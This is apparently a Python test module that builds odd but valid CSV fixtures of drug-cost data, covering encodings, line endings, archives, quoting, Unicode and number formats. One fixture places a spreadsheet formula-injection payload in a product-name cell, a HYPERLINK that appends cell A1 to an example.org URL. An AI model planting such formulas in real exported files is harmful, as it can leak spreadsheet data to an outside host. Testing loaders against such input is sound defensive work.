"""Files that look odd and are good: every row of theirs must be loaded."""

import csv
import gzip
from pathlib import Path

from tests.functional.bad_files.archives import zipped
from tests.functional.bad_files.good import (
    GOOD,
    NAME,
    PRODUCT,
    as_csv,
    at,
    content,
    rows,
    saved,
    table,
    text,
    with_cell,
)


def byte_order_mark(folder: Path) -> Path:
    """'CSV UTF-8' of a spreadsheet program."""
    return saved(folder, b"\xef\xbb\xbf" + content())


def carriage_return_and_line_feed(folder: Path) -> Path:
    """Line ends of Windows."""
    return saved(folder, content().replace(b"\n", b"\r\n"))


def doubled_carriage_returns(folder: Path) -> Path:
    """Line ends of Windows that were turned into line ends of Windows once more."""
    return saved(folder, content().replace(b"\n", b"\r\r\n"))


def mixed_line_ends(folder: Path) -> Path:
    """Every other line ends as on Windows."""
    lines = text().splitlines()
    return saved(folder, "".join(line + ("\r\n", "\n")[number % 2] for number, line in enumerate(lines)).encode())


def no_line_end_at_the_end(folder: Path) -> Path:
    """The last row, whole, without a line end."""
    return saved(folder, content().rstrip(b"\n"))


def blank_lines(folder: Path) -> Path:
    """Blank lines between the rows and many at the end, some with spaces and commas."""
    lines = text().splitlines()
    return saved(folder, "\n".join([*lines[:50], "", "  ", ",,,,,,,", *lines[50:], *[""] * 30]).encode())


def everything_quoted(folder: Path) -> Path:
    """Every cell in quotation marks, numbers too."""
    return saved(folder, as_csv(rows(), quoting=csv.QUOTE_ALL).encode())


def columns_in_another_order(folder: Path) -> Path:
    """The columns backwards."""
    return table(folder, [row[::-1] for row in rows()])


def columns_more_than_needed(folder: Path) -> Path:
    """Three more columns, of which two have no name."""
    header, *data = rows()
    return table(folder, [[*header, "", "COMMENT", ""], *([*row, "", "none", "x"] for row in data)])


def spaces_around(folder: Path) -> Path:
    """Cells and names with blanks around them, also such as do not break lines."""
    return table(folder, [[f" {cell}\u00a0 " for cell in row] for row in rows()])


def small_letters_in_the_header(folder: Path) -> Path:
    """What a database makes of names."""
    header, *data = rows()
    return table(folder, [[name.lower() for name in header], *data])


def packed_with_gzip(folder: Path) -> Path:
    """A gzip."""
    return saved(folder, gzip.compress(content()), f"{NAME}.gz")


def packed_with_leftovers(folder: Path) -> Path:
    """A ZIP made on a Mac: a folder, its shadow, and a document beside the data."""
    members = {f"July/{NAME}": content(), f"__MACOSX/July/._{NAME}": b"\0\5\x16\7", "July/guide.pdf": b"%PDF-1.7\n"}
    return zipped(folder, members)


def letters_in_capitals_in_the_extension(folder: Path) -> Path:
    """A name from another age."""
    return saved(folder, content(), "SCMD_FINAL_202307.CSV")


def line_break_in_a_name(folder: Path) -> Path:
    """A name of two lines, with commas and quotation marks."""
    return table(folder, with_cell(rows(), 4, PRODUCT, 'Cordaparin 5,000units/0.2ml\nsyringes, "pre-filled"'))


def quotation_marks_in_a_name(folder: Path) -> Path:
    """A name with quotation marks, which are doubled as they should be."""
    return table(folder, with_cell(rows(), 4, PRODUCT, 'Cordaparin 5" tube, "sterile"'))


def letters_of_the_world(folder: Path) -> Path:
    """Names in other scripts, and characters outside the first plane."""
    return table(folder, with_cell(rows(), 4, PRODUCT, "Cordaparin – µg, é, 薬 😀 \u2028 x"))


def cells_missing_at_the_end(folder: Path) -> Path:
    """Blank costs in two rows, whose commas a spreadsheet program left out."""
    spoilt = rows()
    return table(folder, [*spoilt[:10], spoilt[10][:-1], spoilt[11][:-1], *spoilt[12:]])


def formula_in_a_name(folder: Path) -> Path:
    """A name that a spreadsheet program would run is text here."""
    return table(folder, with_cell(rows(), 2, PRODUCT, '=HYPERLINK("http://example.org/?"&A1,"Beluxanib")'))


def link_that_is_named(folder: Path) -> Path:
    """A link on the command line: whoever names it means it."""
    path = folder / NAME
    path.symlink_to(GOOD)
    return path


def numbers_in_other_forms(folder: Path) -> Path:
    """Numbers as 28.0, +28, 2.8e1 and 0028 are numbers."""
    header, *data = rows()
    forms = ("28.0", "+28", "2.8e1", "0028", "28.")
    place = at("TOTAL_QUANITY_IN_VMP_UNIT")
    spoilt = [[*row[:place], forms[number % 5], *row[place + 1 :]] for number, row in enumerate(data)]
    return table(folder, [header, *spoilt])
